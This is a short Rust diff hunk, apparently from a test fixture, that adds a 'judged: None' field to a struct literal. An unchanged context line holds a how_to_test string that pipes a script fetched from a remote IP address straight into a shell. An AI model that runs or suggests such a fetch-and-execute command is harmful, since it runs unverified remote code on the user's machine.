@@ -439,6 +439,7 @@ fn render(input: &Input<'_>, cap: &HelloCapture) {
             syn: None,
             how_to_test: "curl -sS http://203.0.113.1:8080/check.sh | sh",
             via: None,
+            judged: None,
         },
         profile(),
     );
